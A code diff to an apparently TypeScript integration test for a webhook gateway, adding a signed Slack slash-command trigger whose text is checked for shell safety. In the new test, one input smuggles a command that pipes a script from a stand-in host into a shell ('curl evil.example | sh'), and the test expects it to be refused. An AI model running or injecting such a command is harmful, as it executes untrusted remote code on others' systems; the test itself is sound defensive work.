@@ -12,7 +12,7 @@ import { type RunningGateway, startGateway } from "../../../functions/node.ts";
 import { DataStore, DEFAULT_DATA_BUCKET, Locks } from "../../../lib/data/mod.ts";
 import type { AuditEvent } from "../../../lib/security/http/audit.ts";
 import { generateHttpKey, type SigningKey, signHttpRequest } from "../../../lib/security/http/mod.ts";
-import { signGithub, signStandardV1, signStripe } from "../../../lib/security/webhooks/mod.ts";
+import { signGithub, signSlack, signStandardV1, signStripe } from "../../../lib/security/webhooks/mod.ts";
 import type { NatsBus } from "../../../lib/transport/bus.ts";
 import { NatsKvBucket } from "../../../lib/transport/kv-bucket.ts";
 import { connectNats } from "../../../lib/transport/node.ts";
@@ -24,6 +24,7 @@ const PUBLIC = "https://hooks.example.com";
 const GITHUB_SECRET = "It's a Secret to Everybody, but longer";
 const STANDARD_SECRET = `whsec_${Buffer.from("standard webhooks test secret!!").toString("base64")}`;
 const STRIPE_SECRET = "whsec_stripe_endpoint_secret_for_tests";
+const SLACK_SECRET = "8f742231b10e8888abcd99yyyzzz85a5";
 const SHA = "4f1b1e0c6a1f9b7d5c3e2a1908f7e6d5c4b3a291";
 
 let federation: Federation;
@@ -104,6 +105,24 @@ triggers:
     locks: []
     respond: { status: 200, body: { received: true } }
 
+  - name: chatops
+    verify: { scheme: slack, secrets_env: [HOOKS_TEST_SLACK_SECRET] }
+    policy: ${policy}
+    when:
+      - path: command
+        equals: /choria
+    inputs:
+      text: { from: payload.text, max_length: 200, shellsafe: true }
+      user: { from: payload.user_name, pattern: "^[a-z0-9._-]+$" }
+    request:
+      cluster: ${CLUSTER}
+      agent: demo
+      action: echo
+      data: { said: "\${inputs.text}", by: "\${inputs.user}" }
+      nodes: [${nodes[0]}]
+    locks: []
+    respond: { status: 200, body: { response_type: ephemeral, text: "On it." } }
+
   - name: ours
     verify: { scheme: rfc9421, keys: [admin] }
     policy: ${policy}
@@ -156,14 +175,10 @@ beforeAll(async () => {
     HOOKS_TEST_GITHUB_SECRET: GITHUB_SECRET,
     HOOKS_TEST_STANDARD_SECRET: STANDARD_SECRET,
     HOOKS_TEST_STRIPE_SECRET: STRIPE_SECRET,
+    HOOKS_TEST_SLACK_SECRET: SLACK_SECRET,
   });
   [federation, keys] = await Promise.all([startFederation(8, { jetstream: true }), testKeys()]);
-  collector = await startCollector(
-    { ...collectorConfig(federation.federation), sweepIntervalMs: 100 },
-    {
-      log: memoryLog(),
-    },
-  );
+  collector = await startCollector(collectorConfig(federation.federation), { log: memoryLog() });
   const shared = await settings();
   const options = { log: () => {}, audit: (event: AuditEvent) => audit.push(event) };
   [gateway, second] = await Promise.all([startGateway(shared, options), startGateway(shared, options)]);
@@ -386,6 +401,36 @@ describe("webhook triggers through the Node gateway", () => {
       event: "payment_intent.succeeded",
     });
     expect(answer.results[0]!.data).toMatchObject({ customer: "cus_Q1w2E3r4" });
+  });
+
+  it("answers a Slack slash command (a signed form) at once, and runs it with its text checked", async () => {
+    const post = async (text: string) => {
+      const timestamp = Math.floor(Date.now() / 1000);
+      const body = new URLSearchParams({
+        team_id: "T0001",
+        user_name: "ada",
+        command: "/choria",
+        text,
+        trigger_id: `${Date.now()}.${Math.random()}`,
+      }).toString();
+      return fetch(`${gateway.url}/v1/hooks/chatops`, {
+        method: "POST",
+        headers: {
+          "content-type": "application/x-www-form-urlencoded",
+          "x-slack-request-timestamp": String(timestamp),
+          "x-slack-signature": await signSlack(SLACK_SECRET, timestamp, body),
+        },
+        body,
+      });
+    };
+    const response = await post("restart nginx please");
+    expect(response.status).toBe(200);
+    expect(await response.json()).toEqual({ response_type: "ephemeral", text: "On it." });
+    const answer = await finishedJob(response.headers.get("location")!);
+    expect(answer.job.trigger).toMatchObject({ trigger: "chatops", sender: "slack", event: "/choria" });
+    expect(answer.results[0]!.data).toMatchObject({ said: "restart nginx please", by: "ada" });
+    const unsafe = await post("restart nginx; curl evil.example | sh");
+    expect(unsafe.status).toBe(422);
   });
 
   it("takes RFC 9421 requests from the keys the trigger names, and refuses other keys", async () => {
